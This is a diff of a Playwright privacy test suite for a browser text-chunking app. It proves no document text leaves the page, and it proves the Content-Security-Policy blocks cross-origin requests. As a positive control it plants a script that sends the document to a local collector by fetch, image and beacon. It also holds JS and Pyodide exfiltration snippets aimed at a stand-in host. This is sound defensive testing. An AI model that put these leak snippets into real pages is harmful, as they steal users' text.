@@ -1,264 +1,191 @@
-"""Issue 4, section 2: nothing leaves the browser, proven three ways.
+"""Nothing about the document leaves the browser: two layers, each proven on its own.
 
-(a) Playwright records every request of a whole user flow: paste, typing, import through
-    Browse TXT/MD, both modes, both edges, a Source name, both downloads, both copies (with
-    clipboard permission), Copy settings link and reopening that link in a new page.
-    Every request must be a same-origin GET of a file that the build wrote to dist/.
-(b) The in-process server's own log says the same, and unique marker strings typed,
-    pasted and imported into the document appear in no request line, header or body.
-(c) A securitypolicyviolation listener sees no violation in normal use, while a deliberate
-    fetch to another origin, from the page and from Python inside the page's Pyodide, is
-    refused by the Content-Security-Policy.
-Then the context goes offline and the flow runs again: everything keeps working and the
-page asks for nothing.
+Layer 1, the page itself, with the safety net off. The server sends no CSP header and the
+browser context bypasses the page's <meta> policy (`bypass_csp=True`; the first check
+shows an inline script really runs). The whole user flow runs: paste, typing, import
+through Browse TXT/MD, both modes, both edges, a Source name, both downloads, both copies,
+Copy settings link, reopening that link in a new page, and the flow again offline. Every
+request Playwright sees must be a same-origin GET of a file the build wrote; unique
+markers typed, pasted, imported and used as the Source name appear in no request (URL,
+headers, body) the browser or the server saw; a second local server on another origin
+(the collector) receives nothing. This is what shows the page makes no such request.
 
-One journey (two page boots) feeds all the checks below; it uses its own server so the
-log holds this journey only. Deliberate cross-origin requests only ever target
-`http://exfil.invalid/` (the reserved .invalid TLD never resolves, and the CSP refuses the
-connection before any lookup).
+Positive control: the same flow and the same check on a copy of the site with a planted
+leak (a script sending the start of the document to the collector by fetch, image and
+beacon after every render) must report each of the three leaks; if it reports nothing,
+the layer-1 check is blind and this test fails.
+
+Layer 2, the policy. On the site as served (header and <meta> policy), a listener for
+`securitypolicyviolation` sees no violation during normal use, and a deliberate request
+to the collector by fetch, image, beacon, form and WebSocket, from JavaScript and from
+Python in the page's own Pyodide (through `pyscript.window`, plus pyodide.http), is each
+refused, each with its violation observed; neither the browser nor the collector sees it.
 """
 
 from __future__ import annotations
 
+import contextlib
 import csv
 import io
 import json
 import uuid
+from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
 from urllib.parse import unquote, urlsplit
 
 import pytest
-from playwright.sync_api import Request, expect
+from playwright.sync_api import Browser, Request, expect
+from playwright.sync_api import Error as PlaywrightError
 
 from chunker_py import Settings, analyse, to_csv, to_jsonl
 
-from .conftest import WatchedPage, open_watched_page
-
-EXFIL = "http://exfil.invalid/"
-CLIPBOARD = ["clipboard-read", "clipboard-write"]
+from .conftest import SAMPLE, App, Server, launch_app
 
 
 @dataclass
 class Seen:
     method: str
     url: str
+    kind: str  # Playwright's resource type: document, script, fetch, image, ping ...
     headers: dict[str, str]
     body: bytes
+
+    def exposed(self) -> str:
+        return unquote(self.url) + json.dumps(self.headers) + self.body.decode("latin-1")
+
+
+def recorder(sink: list[Seen]) -> Callable[[Request], None]:
+    def on_request(request: Request) -> None:
+        body = request.post_data_buffer or b""
+        sink.append(
+            Seen(request.method, request.url, request.resource_type, dict(request.headers), body)
+        )
+
+    return on_request
+
+
+# ---------------------------------------------------------------- the user flow
+
+
+def run_flow(app: App, marker: str, tmp: Path) -> dict[str, object]:
+    """The whole user flow on a booted page; returns what the user got out of it."""
+    out: dict[str, object] = {}
+    preview = app.region("Overlap preview")
+
+    # Paste (fill = one input event with the whole text), then type on top of it.
+    pasted = f"Pasted paragraph {marker}-paste with some words.\n\nSecond paragraph here."
+    app.fill("Source text", pasted)
+    expect(preview).to_contain_text(f"{marker}-paste")
+    app.type("Source text", f" {marker}-typed", clear=False)
+    expect(app.region("Chunk records")).to_contain_text(f"{marker}-typed")
+
+    # Import through Browse TXT/MD.
+    lines = [f"Line {i} of the imported notes {marker}-file, some filler words." for i in range(40)]
+    imported = "# Notes\n\n" + "\n".join(lines) + "\n"
+    app.settle(lambda: app.browse("notes.md", imported.encode(), "text/markdown"))
+    expect(app.source_status()).to_contain_text("Imported notes.md")
+    assert app.value("Source text") == imported
+
+    # Settings: size/overlap, both modes, both edges, a Source name.
+    app.fill("Chunk size", "200")
+    app.fill("Requested overlap", "40")
+    for label in ("Fixed size", "Recursive", "Preserve edge whitespace", "Trim edge whitespace"):
+        app.choose(label)
+        expect(app.readiness_status()).to_have_text("Ready")
+    name = f"{marker}-name"
+    app.fill("Source name", name)
+
+    for kind in ("JSONL", "CSV"):
+        file_name, data = app.download(f"Download {kind}")
+        out[kind] = data.decode("utf-8")  # no newline translation
+        out[f"{kind} name"] = file_name
+        out[f"copied {kind}"] = app.copy(f"Copy {kind}")
+    out["link"] = app.copy("Copy settings link")
+    out["text"] = imported
+    out["name"] = name
+    out["settings"] = Settings(chunk_size=200, chunk_overlap=40, source_name=name)
+    out["dialogs"] = list(app.dialogs)
+    return out
 
 
 @dataclass
 class Journey:
     base_url: str
     markers: list[str]
-    name_marker: str
-    browser_requests: list[Seen]
+    requests: list[Seen]  # every request the browser context made, both pages
     offline_requests: list[Seen]
     server_log: list  # conftest.Request
+    collector_log: list
     online: dict[str, object]
-    offline: dict[str, object]
-    link: str
-    reopened: dict[str, object]
-    violations_in_use: list[dict[str, str]]
-    page_fetch: dict[str, object]
-    python_fetch: dict[str, object]
-    notes: list[str] = field(default_factory=list)
+    offline: dict[str, object] = field(default_factory=dict)
+    reopened: dict[str, object] = field(default_factory=dict)
+    inline_script_ran: bool = False
+    violations: list[dict[str, str]] = field(default_factory=list)
 
 
-def _record(sink: list[Seen]):
-    def on_request(request: Request) -> None:
-        sink.append(
-            Seen(
-                request.method, request.url, dict(request.headers), request.post_data_buffer or b""
-            )
-        )
-
-    return on_request
-
-
-def _read_clipboard(page) -> str:
-    return page.evaluate("() => navigator.clipboard.readText()")
-
-
-def run_flow(w: WatchedPage, marker: str, tmp: Path, *, reopen_by_hash: str | None = None):
-    """The whole user flow on a booted page; returns what the user got out of it."""
-    page = w.page
-    out: dict[str, object] = {}
-
-    # Paste (fill = one input event with the whole text), then type on top of it.
-    pasted = f"Pasted paragraph {marker}-paste with some words.\n\nSecond paragraph here."
-    page.fill("#source-text", pasted)
-    w.settle()
-    expect(page.locator("#preview-list")).to_contain_text(f"{marker}-paste")
-    page.locator("#source-text").press_sequentially(f" {marker}-typed")
-    w.settle()
-    expect(page.locator("#records-body")).to_contain_text(f"{marker}-typed")
-
-    # Import through Browse TXT/MD.
-    lines = [f"Line {i} of the imported notes {marker}-file, some filler words." for i in range(40)]
-    imported = "# Notes\n\n" + "\n".join(lines) + "\n"
-    page.set_input_files(
-        "#browse",
-        files=[{"name": "notes.md", "mimeType": "text/markdown", "buffer": imported.encode()}],
-    )
-    expect(page.locator("#source-status")).to_contain_text("Imported notes.md")
-    w.settle()
-    assert page.input_value("#source-text") == imported
-
-    # Settings: size/overlap, both modes, both edges, a Source name.
-    page.fill("#chunk-size", "200")
-    w.settle()
-    page.fill("#chunk-overlap", "40")
-    w.settle()
-    for label in ("Fixed size", "Recursive"):
-        page.get_by_label(label, exact=True).check()
-        w.settle()
-        expect(page.locator("#readiness-status")).to_have_text("Ready")
-    for label in ("Preserve edge whitespace", "Trim edge whitespace"):
-        page.get_by_label(label, exact=True).check()
-        w.settle()
-        expect(page.locator("#readiness-status")).to_have_text("Ready")
-    page.get_by_text("Advanced", exact=True).click()
-    page.fill("#source-name", out_name := f"{marker}-name")
-    w.settle()
-    out["fragment"] = page.evaluate("() => location.hash")
-
-    # Downloads.
-    for kind in ("jsonl", "csv"):
-        with page.expect_download() as info:
-            page.click(f"#download-{kind}")
-        target = tmp / f"{marker}.{kind}"
-        info.value.save_as(target)
-        out[kind] = target.read_bytes().decode("utf-8")  # no newline translation
-        out[f"{kind}_name"] = info.value.suggested_filename
-
-    # Copies (clipboard permission granted on the context).
-    for button, what in (("#copy-jsonl", "JSONL"), ("#copy-csv", "CSV")):
-        page.click(button)
-        expect(page.locator("#export-status")).to_have_text(f"{what} copied to the clipboard.")
-        out[f"clip-{what}"] = _read_clipboard(page)
-    page.click("#copy-link")
-    expect(page.locator("#export-status")).to_have_text("Settings link copied to the clipboard.")
-    out["link"] = _read_clipboard(page)
-
-    out["text"] = imported
-    out["name"] = out_name
-    out["expected_settings"] = Settings(
-        mode="recursive", chunk_size=200, chunk_overlap=40, edges="trim", source_name=out_name
-    )
-    out["violations"] = w.violations()
-    out["dialogs"] = list(w.dialogs)
-    return out
-
-
-@pytest.fixture(scope="module")
-def journey(browser, site, serve_dir, tmp_path_factory) -> Journey:
-    server = serve_dir(site.root)  # a private server: its log is this journey alone
-    tmp = tmp_path_factory.mktemp("privacy")
+def journey(
+    browser: Browser,
+    server: Server,
+    collector: Server,
+    tmp: Path,
+    *,
+    full: bool = True,
+    **context_options: object,
+) -> Journey:
+    """Boot, run the flow; with `full`, reopen the copied link and run it again offline."""
     run = uuid.uuid4().hex
-    marker_a, marker_b = f"PRIVMARK{run[:12]}", f"PRIVMARK{run[12:24]}"
-
-    first, close_first = open_watched_page(browser, server.url, permissions=CLIPBOARD)
+    markers = [f"PRIVMARK{run[:12]}", f"PRIVMARK{run[12:24]}"]
+    collected = len(collector.requests)
+    first = launch_app(browser, server.url, **context_options)
     context = first.page.context
-    browser_requests: list[Seen] = []
-    context.on("request", _record(browser_requests))
-    closers = [close_first]
+    seen: list[Seen] = []
+    context.on("request", recorder(seen))
     try:
-        first.open()
-        first.wait_ready()
-        online = run_flow(first, marker_a, tmp)
-        link = str(online["link"])
-
-        # Reopen the copied link in a new page of the same context.
-        second = WatchedPage(page=context.new_page(), base_url=server.url)
-        second.page.on("dialog", lambda d: (second.dialogs.append(d.message), d.dismiss()))
-        second.page.goto(link)
-        second.wait_ready()
-        reopened = {
-            "mode": second.page.is_checked("#mode-recursive"),
-            "size": second.page.input_value("#chunk-size"),
-            "overlap": second.page.input_value("#chunk-overlap"),
-            "trim": second.page.is_checked("#edges-trim"),
-            "name": second.page.input_value("#source-name"),
-            "text": second.page.input_value("#source-text"),
-            "status": second.page.text_content("#readiness-status"),
-        }
-
-        # Offline after load: the flow again, on the reopened page; the link is reopened
-        # by setting the fragment (a navigation would need the network).
-        offline_requests: list[Seen] = []
-        context.on("request", _record(offline_requests))
-        context.set_offline(True)
-        offline = run_flow(second, marker_b, tmp)
-        second.page.evaluate("(hash) => { location.hash = hash; }", urlsplit(link).fragment)
-        expect(second.page.locator("#source-name")).to_have_value(str(online["name"]))
-        second.settle()
-        offline["relinked"] = {
-            "size": second.page.input_value("#chunk-size"),
-            "name": second.page.input_value("#source-name"),
-        }
-        context.set_offline(False)
-        offline_requests = list(offline_requests)  # the deliberate requests below are not use
-        violations_in_use = (online["violations"] or []) + (offline["violations"] or [])
-        # Count the violations so far, so the deliberate ones below are told apart.
-        before = len(first.violations() or [])
-
-        # (c) Deliberate cross-origin fetches, from the page and from its Python. Requests
-        # recorded from here on are not part of normal use.
-        browser_requests = list(browser_requests)
-        page_fetch = first.page.evaluate(
-            """async (url) => {
-                try {
-                    await fetch(url, { method: 'POST', body: 'secret' });
-                    return { rejected: false };
-                } catch (error) {
-                    return { rejected: true, error: String(error) };
-                }
-            }""",
-            EXFIL,
+        first.open().wait_ready()
+        ran = first.page.evaluate(
+            "() => { const s = document.createElement('script');"
+            " s.textContent = 'window.__inlineRan = true;'; document.head.append(s);"
+            " return window.__inlineRan === true; }"
         )
-        page_fetch["violations"] = (first.violations() or [])[before:]
-        before = len(first.violations() or [])
-        python_result = first.python(
-            f"""
-from pyodide.http import pyfetch, open_url
-outcome = {{}}
-try:
-    await pyfetch({EXFIL!r}, method="POST", body="secret")
-    outcome["pyfetch"] = "fetched"
-except Exception as error:
-    outcome["pyfetch"] = "refused: " + repr(error)
-try:
-    open_url({EXFIL!r})
-    outcome["open_url"] = "fetched"
-except Exception as error:
-    outcome["open_url"] = "refused: " + repr(error)
-import json
-json.dumps(outcome)
-"""
-        )
-        python_fetch = json.loads(str(python_result))
-        python_fetch["violations"] = (first.violations() or [])[before:]
-        closers.append(second.page.close)
+        online = run_flow(first, markers[0], tmp)
+        result = Journey(server.url, markers, seen, [], [], [], online, inline_script_ran=bool(ran))
+        if full:
+            second = App(page=context.new_page(), base_url=server.url).watch()
+            second.page.goto(str(online["link"]))
+            second.wait_ready()
+            result.reopened = {
+                "Recursive": second.checked("Recursive"),
+                "Trim edge whitespace": second.checked("Trim edge whitespace"),
+                "Chunk size": second.value("Chunk size"),
+                "Requested overlap": second.value("Requested overlap"),
+                "Source name": second.value("Source name"),
+                "Source text": second.value("Source text"),
+                "status": second.readiness_status().text_content(),
+            }
+            # Offline after load: the flow again on the reopened page; the link is
+            # reopened by editing the fragment (a navigation would need the network).
+            offline: list[Seen] = []
+            context.on("request", recorder(offline))
+            context.set_offline(True)
+            result.offline = run_flow(second, markers[1], tmp)
+            second.fill("Source name", "")
+            second.open_link("#" + urlsplit(str(online["link"])).fragment)
+            result.offline["relinked"] = {
+                "Chunk size": second.value("Chunk size"),
+                "Source name": second.value("Source name"),
+            }
+            context.set_offline(False)
+            result.offline_requests = offline
+            result.violations = (first.violations() or []) + (second.violations() or [])
+        else:
+            result.violations = first.violations() or []
     finally:
-        for close in reversed(closers):
-            close()
-
-    return Journey(
-        base_url=server.url,
-        markers=[marker_a, marker_b],
-        name_marker="PRIVMARK",
-        browser_requests=browser_requests,
-        offline_requests=offline_requests,
-        server_log=server.requests,
-        online=online,
-        offline=offline,
-        link=link,
-        reopened=reopened,
-        violations_in_use=violations_in_use,
-        page_fetch=page_fetch,
-        python_fetch=python_fetch,
-    )
+        context.close()
+    result.requests = list(seen)
+    result.server_log = server.requests
+    result.collector_log = collector.requests[collected:]
+    return result
 
 
 def _built_file(site_root: Path, url_path: str) -> Path | None:
@@ -269,147 +196,320 @@ def _built_file(site_root: Path, url_path: str) -> Path | None:
     return candidate
 
 
-def _local_non_network(url: str, base_url: str) -> bool:
+def _stays_in_the_page(url: str, base_url: str) -> bool:
     """data: URLs and this origin's blob: URLs never leave the page."""
-    origin = base_url.rstrip("/")
-    return url.startswith("data:") or url.startswith(f"blob:{origin}/")
+    return url.startswith("data:") or url.startswith(f"blob:{base_url.rstrip('/')}/")
 
 
-# ---------------------------------------------------------------- the flow itself
+def layer1_problems(j: Journey, site_root: Path) -> list[str]:
+    """Everything the page sent that it should not have: each request off the origin,
+    not a GET, with a query, not a built file, or carrying a marker; whatever the
+    collector received. Empty means the page made no such request."""
+    problems = []
+    for seen in j.requests:
+        if _stays_in_the_page(seen.url, j.base_url):
+            continue
+        parts = urlsplit(seen.url)
+        if not seen.url.startswith(j.base_url):
+            problems.append(f"foreign {seen.kind}: {seen.method} {seen.url}")
+        elif seen.method != "GET":
+            problems.append(f"not a GET ({seen.kind}): {seen.method} {seen.url}")
+        elif parts.query:
+            problems.append(f"query string ({seen.kind}): {seen.url}")
+        elif _built_file(site_root, parts.path) is None:
+            problems.append(f"not a built file ({seen.kind}): {seen.url}")
+        if "PRIVMARK" in seen.exposed():
+            problems.append(f"carries the document ({seen.kind}): {seen.method} {seen.url}")
+    for entry in j.server_log:
+        exposed = unquote(entry.path) + json.dumps(entry.headers) + entry.body.decode("latin-1")
+        if entry.method != "GET" or "PRIVMARK" in exposed:
+            problems.append(f"server saw {entry.method} {entry.path}")
+    for entry in j.collector_log:
+        problems.append(f"collector received {entry.method} {entry.path}")
+    return problems
 
 
-def _check_flow_output(out: dict[str, object]) -> None:
-    text = str(out["text"])
-    expected = analyse(text, out["expected_settings"])  # type: ignore[arg-type]
-    assert expected.error is None
-    assert out["jsonl"] == to_jsonl(expected)
-    assert out["csv"] == to_csv(expected)
-    assert out["clip-JSONL"] == out["jsonl"]
-    assert out["clip-CSV"] == out["csv"]
-    for line in str(out["jsonl"]).splitlines():
-        record = json.loads(line)
-        assert record["text"] == text[record["start"] : record["end"]]
-    rows = list(csv.DictReader(io.StringIO(str(out["csv"]))))
-    assert len(rows) == len(expected.chunks)
-    assert out["dialogs"] == []
+@pytest.fixture(scope="module")
+def collector(serve_dir, tmp_path_factory) -> Server:
+    """Another origin (another port) that would receive anything sent off the page."""
+    return serve_dir(tmp_path_factory.mktemp("collector"))
 
 
-def test_online_flow_produced_exact_downloads_and_copies(journey: Journey) -> None:
-    _check_flow_output(journey.online)
-    assert journey.online["jsonl_name"] == f"{journey.online['name']}.jsonl"
+# ---------------------------------------------------------------- layer 1: the page itself
 
 
-def test_copied_settings_link_reopens_with_the_settings_and_never_the_text(
-    journey: Journey,
+@pytest.fixture(scope="module")
+def unguarded(browser, site, serve_dir, collector, tmp_path_factory) -> Journey:
+    server = serve_dir(site.root, csp=None)  # a private server: its log is this journey
+    return journey(
+        browser, server, collector, tmp_path_factory.mktemp("unguarded"), bypass_csp=True
+    )
+
+
+def test_layer1_runs_with_the_policy_really_off(unguarded: Journey) -> None:
+    assert unguarded.inline_script_ran, "an inline script was refused: the CSP is still on"
+    assert unguarded.violations == []
+
+
+def test_layer1_the_page_sends_nothing_off_its_origin_or_about_the_document(
+    unguarded: Journey, site
 ) -> None:
-    assert journey.link.startswith(journey.base_url + "#")
-    for marker in journey.markers:
-        assert f"{marker}-paste" not in journey.link and f"{marker}-file" not in journey.link
-    assert journey.reopened == {
-        "mode": True,
-        "size": "200",
-        "overlap": "40",
-        "trim": True,
-        "name": journey.online["name"],
-        "text": journey.reopened["text"],
-        "status": "Ready",
-    }
-    assert journey.markers[0] not in str(journey.reopened["text"])  # the sample, not the doc
+    assert len(unguarded.requests) > 10, "too few requests recorded: is the recorder on?"
+    assert layer1_problems(unguarded, site.root) == []
 
 
-def test_offline_flow_keeps_working(journey: Journey) -> None:
-    _check_flow_output(journey.offline)
-    assert journey.offline["relinked"] == {"size": "200", "name": journey.online["name"]}
-
-
-def test_offline_flow_asks_the_network_for_nothing(journey: Journey) -> None:
+def test_layer1_offline_after_load_the_page_asks_the_network_for_nothing(
+    unguarded: Journey,
+) -> None:
     network = [
-        r.url for r in journey.offline_requests if not _local_non_network(r.url, journey.base_url)
+        s.url
+        for s in unguarded.offline_requests
+        if not _stays_in_the_page(s.url, unguarded.base_url)
     ]
     assert network == []
 
 
-# ---------------------------------------------------------------- (a) the browser's view
-
-
-def test_every_browser_request_is_a_same_origin_get_of_a_built_file(journey, site) -> None:
-    assert journey.browser_requests, "no requests recorded at all"
-    bad = []
-    for seen in journey.browser_requests:
-        if _local_non_network(seen.url, journey.base_url):
-            continue
-        parts = urlsplit(seen.url)
-        if not seen.url.startswith(journey.base_url):
-            bad.append(f"foreign: {seen.method} {seen.url}")
-        elif seen.method != "GET":
-            bad.append(f"not a GET: {seen.method} {seen.url}")
-        elif parts.query:
-            bad.append(f"query string: {seen.url}")
-        elif _built_file(site.root, parts.path) is None:
-            bad.append(f"not a built file: {seen.url}")
-    assert bad == []
-
-
-def test_no_browser_request_carries_the_document_or_the_name(journey: Journey) -> None:
-    for seen in journey.browser_requests:
-        exposed = seen.url + json.dumps(seen.headers) + seen.body.decode("latin-1")
-        assert journey.name_marker not in exposed, f"{seen.method} {seen.url} leaks a marker"
-
-
-# ---------------------------------------------------------------- (b) the server's view
-
-
-def test_server_log_shows_only_gets_of_built_files(journey: Journey, site) -> None:
-    assert journey.server_log
-    bad = [
-        f"{r.method} {r.path}"
-        for r in journey.server_log
-        if r.method != "GET" or "?" in r.path or _built_file(site.root, r.path) is None
-    ]
-    assert bad == []
-
-
-def test_server_log_never_holds_the_marker_in_path_headers_or_body(journey: Journey) -> None:
-    for entry in journey.server_log:
-        exposed = entry.path + json.dumps(entry.headers) + entry.body.decode("latin-1")
-        assert journey.name_marker not in exposed, f"{entry.method} {entry.path} leaks a marker"
-        assert entry.body == b""
-
-
-def test_server_log_and_browser_record_agree(journey: Journey) -> None:
-    server_paths = {unquote(r.path) for r in journey.server_log}
+def test_layer1_server_saw_only_what_the_browser_asked(unguarded: Journey) -> None:
+    server_paths = {unquote(r.path) for r in unguarded.server_log}
     browser_paths = {
         unquote(urlsplit(s.url).path)
-        for s in journey.browser_requests
-        if s.url.startswith(journey.base_url)
+        for s in unguarded.requests
+        if s.url.startswith(unguarded.base_url)
     }
-    assert server_paths <= browser_paths  # the server saw nothing the browser did not ask
-    assert "/" in server_paths and "/" in browser_paths
+    assert "/" in server_paths and server_paths <= browser_paths
 
 
-# ---------------------------------------------------------------- (c) the policy's view
+def _check_flow_output(out: dict[str, object]) -> None:
+    text = str(out["text"])
+    expected = analyse(text, out["settings"])  # type: ignore[arg-type]
+    assert expected.error is None
+    assert out["JSONL"] == to_jsonl(expected)
+    assert out["CSV"] == to_csv(expected)
+    assert out["copied JSONL"] == out["JSONL"]
+    assert out["copied CSV"] == out["CSV"]
+    assert out["JSONL name"] == f"{out['name']}.jsonl"
+    rows = list(csv.DictReader(io.StringIO(str(out["CSV"]), newline="")))
+    assert [r["text"] for r in rows] == [c.text for c in expected.chunks]
+    assert out["dialogs"] == []
 
 
-def test_csp_listener_was_installed_and_saw_no_violation_in_normal_use(journey: Journey) -> None:
-    assert journey.online["violations"] == [], "listener missing or violations seen"
-    assert journey.offline["violations"] == []
-    assert journey.violations_in_use == []
+def test_the_flow_gives_exact_downloads_and_copies_online_and_offline(
+    unguarded: Journey,
+) -> None:
+    _check_flow_output(unguarded.online)
+    _check_flow_output(unguarded.offline)
+    assert unguarded.offline["relinked"] == {
+        "Chunk size": "200",
+        "Source name": unguarded.online["name"],
+    }
 
 
-def test_fetch_to_another_origin_from_the_page_is_blocked_by_csp(journey: Journey) -> None:
-    assert journey.page_fetch["rejected"] is True
-    directives = {(v["directive"], v["blocked"]) for v in journey.page_fetch["violations"]}
-    assert ("connect-src", EXFIL) in directives or ("connect-src", EXFIL.rstrip("/")) in directives
+def test_copied_settings_link_reopens_with_the_settings_and_the_sample_not_the_text(
+    unguarded: Journey,
+) -> None:
+    link = str(unguarded.online["link"])
+    assert link.startswith(unguarded.base_url + "#")
+    assert "PRIVMARK" not in link.replace(str(unguarded.online["name"]), "")
+    assert unguarded.reopened == {
+        "Recursive": True,
+        "Trim edge whitespace": True,
+        "Chunk size": "200",
+        "Requested overlap": "40",
+        "Source name": unguarded.online["name"],
+        "Source text": SAMPLE,  # the sample, never the document
+        "status": "Ready",
+    }
 
 
-def test_fetch_from_python_in_the_pages_pyodide_is_blocked_by_csp(journey: Journey) -> None:
-    assert str(journey.python_fetch["pyfetch"]).startswith("refused: ")
-    assert str(journey.python_fetch["open_url"]).startswith("refused: ")
-    blocked = [v for v in journey.python_fetch["violations"] if v["directive"] == "connect-src"]
-    assert len(blocked) >= 2
-    assert all(v["blocked"].startswith(EXFIL.rstrip("/")) for v in blocked)
+# ---------------------------------------------------------------- positive control
+
+LEAK_JS = """// Planted by test_privacy.py: sends the start of the document off the page.
+(() => {
+  const target = %s;
+  const app = document.getElementById('app');
+  new MutationObserver(() => {
+    if (app.dataset.state !== 'ready') return;
+    const text = document.getElementById('source-text').value.slice(0, 40);
+    fetch(target + 'fetch', { method: 'POST', body: text, mode: 'no-cors' }).catch(() => {});
+    new Image().src = target + 'image?q=' + encodeURIComponent(text);
+    navigator.sendBeacon(target + 'beacon', text);
+  }).observe(app, { attributes: true, attributeFilter: ['data-state'] });
+})();
+"""
 
 
-def test_deliberate_requests_never_reached_the_network_or_the_server(journey: Journey) -> None:
-    assert not any("exfil" in r.path for r in journey.server_log)
-    assert not any(r.body for r in journey.server_log)
+@pytest.fixture(scope="module")
+def leaky(browser, site, copy_site, serve_dir, collector, tmp_path_factory) -> Journey:
+    broken = copy_site()
+    (broken / site.build / "leak.js").write_text(LEAK_JS % json.dumps(collector.url), "utf-8")
+    index = broken / "index.html"
+    tag = f'<script src="{site.build}/leak.js" defer></script>'
+    index.write_text(index.read_text("utf-8").replace("</head>", tag + "\n</head>"), "utf-8")
+    server = serve_dir(broken, csp=None)
+    return journey(
+        browser,
+        server,
+        collector,
+        tmp_path_factory.mktemp("leaky"),
+        full=False,
+        bypass_csp=True,
+    )
+
+
+def test_positive_control_layer1_reports_a_planted_leak_by_fetch_image_and_beacon(
+    leaky: Journey, site
+) -> None:
+    """If this fails, the layer-1 check above cannot see a leak and proves nothing."""
+    problems = layer1_problems(leaky, site.root)
+    said = "\n".join(problems)
+    for kind in ("fetch", "image", "ping"):  # Playwright calls a beacon's type "ping"
+        assert f"carries the document ({kind})" in said, f"{kind} leak not reported:\n{said}"
+    assert "collector received POST /fetch" in said
+    assert "collector received GET /image" in said
+    assert "collector received POST /beacon" in said
+
+
+# ---------------------------------------------------------------- layer 2: the policy
+
+
+@pytest.fixture(scope="module")
+def guarded(browser, site, serve_dir, collector, tmp_path_factory) -> Journey:
+    server = serve_dir(site.root)  # CSP header, and the <meta> policy is obeyed
+    return journey(browser, server, collector, tmp_path_factory.mktemp("guarded"), full=False)
+
+
+def test_layer2_no_violation_in_normal_use_and_the_flow_works(guarded: Journey, site) -> None:
+    assert not guarded.inline_script_ran, "an inline script ran: the CSP is not applied"
+    inline = [v for v in guarded.violations if v["directive"].startswith("script-src")]
+    # one report per policy that refuses it (the header and the <meta> tag)
+    assert inline, "the listener did not see the refused inline script"
+    assert {v["blocked"] for v in inline} == {"inline"}
+    assert [v for v in guarded.violations if v not in inline] == []
+    _check_flow_output(guarded.online)
+    assert layer1_problems(guarded, site.root) == []
+
+
+JS_CHANNELS = {
+    "fetch": "async (url) => { try { await fetch(url, { method: 'POST', body: 'secret' }); }"
+    " catch (error) {} }",
+    "image": "(url) => { new Image().src = url + '?secret'; }",
+    "beacon": "(url) => { navigator.sendBeacon(url, 'secret'); }",
+    "form": "(url) => { const form = Object.assign(document.createElement('form'),"
+    " { method: 'POST', action: url }); document.body.append(form); form.submit();"
+    " form.remove(); }",
+    "websocket": "(url) => { try { new WebSocket(url.replace(/^http/, 'ws')); } catch (error) {} }",
+}
+
+PY_CHANNELS = {
+    "fetch": """
+from pyscript import window
+try:
+    await window.fetch(URL, method="POST", body="secret")
+except Exception:
+    pass
+""",
+    "pyfetch": """
+from pyodide.http import pyfetch
+try:
+    await pyfetch(URL, method="POST", body="secret")
+except Exception:
+    pass
+""",
+    "open_url": """
+from pyodide.http import open_url
+try:
+    open_url(URL)
+except Exception:
+    pass
+""",
+    "image": """
+from pyscript import window
+window.Image.new().src = URL + "?secret"
+""",
+    "beacon": """
+from pyscript import window
+window.navigator.sendBeacon(URL, "secret")
+""",
+    "form": """
+from pyscript import document
+form = document.createElement("form")
+form.method = "POST"
+form.action = URL
+document.body.append(form)
+form.submit()
+form.remove()
+""",
+    "websocket": """
+from pyscript import window
+try:
+    window.WebSocket.new(URL.replace("http", "ws", 1))
+except Exception:
+    pass
+""",
+}
+
+DIRECTIVE = {"image": "img-src", "form": "form-action"}  # the rest: connect-src
+
+
+@dataclass
+class Attempt:
+    violations: list[dict[str, str]]
+    finished: list[Seen]  # requests answered while the attempt ran
+
+
+@pytest.fixture(scope="module")
+def attempts(browser, site, serve_dir, collector) -> dict[str, Attempt]:
+    """Each deliberate request on the guarded site, one at a time, with what it caused."""
+    server = serve_dir(site.root)
+    app = launch_app(browser, server.url)
+    seen: list[Seen] = []
+    # Chromium may announce a request before the policy refuses it; only one that got a
+    # response (requestfinished) or reached the collector went out.
+    app.page.context.on("requestfinished", recorder(seen))
+    out: dict[str, Attempt] = {}
+    try:
+        app.open().wait_ready()
+        channels = [("js " + k, v) for k, v in JS_CHANNELS.items()]
+        channels += [("python " + k, v) for k, v in PY_CHANNELS.items()]
+        for name, code in channels:
+            url = f"{collector.url}{name.replace(' ', '-')}"
+            before, requests_before = len(app.violations()), len(seen)
+            if name.startswith("js"):
+                app.page.evaluate(code, url)
+            else:
+                app.python(f"URL = {url!r}\n{code}")
+            host = urlsplit(collector.url).netloc
+            # violation events are asynchronous; a missing one is reported by the test
+            with contextlib.suppress(PlaywrightError):
+                app.page.wait_for_function(
+                    "([n, host]) => window.__cspViolations.slice(n).some("
+                    "(v) => v.blocked.includes(host))",
+                    arg=[before, host],
+                    timeout=5_000,
+                )
+            out[name] = Attempt(app.violations()[before:], seen[requests_before:])
+        assert app.state() == "ready"  # no form navigated the page away
+    finally:
+        app.page.context.close()
+    return out
+
+
+@pytest.mark.parametrize(
+    "channel",
+    [f"js {k}" for k in JS_CHANNELS] + [f"python {k}" for k in PY_CHANNELS],
+)
+def test_layer2_csp_refuses_a_deliberate_request_and_reports_it(
+    attempts: dict[str, Attempt], collector: Server, channel: str
+) -> None:
+    attempt = attempts[channel]
+    kind = channel.split(" ", 1)[1]
+    directive = DIRECTIVE.get(kind, "connect-src")
+    host = urlsplit(collector.url).netloc
+    seen = {(v["directive"], host in v["blocked"]) for v in attempt.violations}
+    assert (directive, True) in seen, (
+        f"no {directive} violation for {channel}: {attempt.violations}"
+    )
+    went_out = [s.url for s in attempt.finished if host in s.url]
+    assert went_out == [], f"{channel} reached the network: {went_out}"
+    reached = [r.path for r in collector.requests if channel.replace(" ", "-") in r.path]
+    assert reached == []
